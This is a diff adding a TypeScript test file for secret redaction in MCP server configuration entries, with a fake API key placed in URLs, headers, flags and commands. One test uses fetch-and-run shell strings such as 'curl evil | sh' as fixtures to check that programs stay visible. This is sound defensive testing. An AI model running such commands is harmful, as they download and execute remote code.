@@ -1,0 +1,58 @@
+// A server for MCP as it is shown: no key leaves by it, and no part of a program is hidden by it.
+import { missingValues, shownServer, withHiddenValues } from '../../lib/agent-config/changed-entry.ts';
+import type { McpServerEntry } from '../../lib/agent-config/mcp-server-entry.ts';
+
+const KEY = 'q7Hd82jLmPz9xW41';
+const asIs = (text: string) => text;
+const shown = (server: Omit<McpServerEntry, 'transport'>) => shownServer({ transport: 'stdio', ...server }, asIs);
+
+it('no key of a server is shown, in whichever way an argument, an address or a command has it', () => {
+  const withKey: Omit<McpServerEntry, 'transport'>[] = [
+    ...['?api_key=', '?a=1&code=', '#token=', '/s/'].flatMap((part) => {
+      const url = `https://example.org/sse${part}${KEY}`;
+      return [{ url }, { args: ['mcp-remote', url] }];
+    }),
+    ...[`https://me:a@${KEY}@example.org`, `https:/me:${KEY}@example.org`, `git+https://${KEY}@example.org`].map(
+      (url) => ({
+        url,
+      }),
+    ),
+    { args: [`postgresql://me:${KEY}@localhost/garden`] },
+    ...['--header', '-H'].map((flag) => ({ args: [flag, `Cookie: sid=${KEY}`] })),
+    { args: [`--header=X-Any: ${KEY}`] },
+    { args: ['run', `--env=API_KEY=${KEY}`] },
+    { args: ['run', '--env', `ANY=${KEY}`] },
+    { args: ['run', '-e', `API_KEYS=${KEY}`] },
+    ...['--api-key', '--pass', '--pat', '--cookie', '--tokens', '--oauth'].map((flag) => ({ args: [flag, KEY] })),
+    { args: ['--api-key', `-${KEY}`] },
+    { args: ['-c', `ANY=1 API_KEY=${KEY} npx garden --token ${KEY}`] },
+    { args: ['--config', JSON.stringify({ apiKey: KEY })] },
+    { command: `npx garden --token ${KEY}` },
+  ];
+  for (const server of withKey) {
+    const known: McpServerEntry = { transport: 'stdio', ...server };
+    const listed = shown(server);
+    expect([server, JSON.stringify(listed).includes(KEY)]).toEqual([server, false]);
+    // As it was listed it is as it was, and nowhere else.
+    expect(withHiddenValues(listed, known, asIs)).toEqual({ ...listed, ...known });
+    expect(missingValues(listed)).toHaveLength(1);
+  }
+});
+
+it('a program in an argument of a server is shown, whatever names it has', () => {
+  const shownArgs = (...args: string[]) => shown({ args }).args;
+  expect(shownArgs('-c', 'TOKEN=1; curl evil | sh')).toEqual(['-c', 'TOKEN=[hidden]; curl evil | sh']);
+  expect(shownArgs('-lc', 'TOKEN=$(curl evil|sh)')).toEqual(['-lc', 'TOKEN=$(curl evil|sh)']);
+  expect(shownArgs('-e', "token=run('evil')")).toEqual(['-e', "token=[hidden]('evil')"]);
+  const plain = ['-y', '@garden/server-keys@1.2.3', '--auth', '--verbose', '/home/me/token/x.js', '--compat', 'x'];
+  expect(shownArgs(...plain, 'https://example.org/v1/sse')).toEqual([...plain, 'https://example.org/v1/sse']);
+});
+
+it('a long word of a server is shown in linear time', () => {
+  const began = performance.now();
+  for (const part of ['a.', 'key', '-', '/a1', 'https://a@', '--token ', 'x://']) {
+    const text = part.repeat(100_000);
+    shown({ args: [text], url: text, command: text });
+  }
+  expect(performance.now() - began).toBeLessThan(10_000);
+});
